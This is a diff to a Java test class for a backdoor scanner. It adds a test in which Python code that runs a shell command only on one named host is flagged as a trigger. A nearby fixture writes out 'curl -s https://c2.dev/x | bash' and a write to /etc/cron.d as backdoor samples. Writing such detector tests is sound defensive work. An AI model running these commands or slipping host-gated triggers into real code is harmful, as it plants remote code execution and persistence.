@@ -125,6 +125,21 @@ class BehaviourDetectorTest {
   }
 
   @Test
+  void actingOnOneMachine_isATrigger_localhostIsEveryMachine() {
+    String code =
+        """
+        import os, socket
+        def work():
+            if socket.gethostname() == "%s":
+                os.system(COMMAND)
+        """;
+
+    assertThat(Scans.rules("server.py", code.formatted("build-7"))).contains("backdoor/trigger");
+    assertThat(Scans.rules("server.py", code.formatted("localhost")))
+        .doesNotContain("backdoor/trigger");
+  }
+
+  @Test
   void twoSignsOfABackdoorInOneFile_block() {
     String one = "import os\ndef a():\n    os.system('curl -s https://c2.dev/x | bash')\n";
     String two = one + "def b():\n    open('/etc/cron.d/u', 'w').write('x')\n";
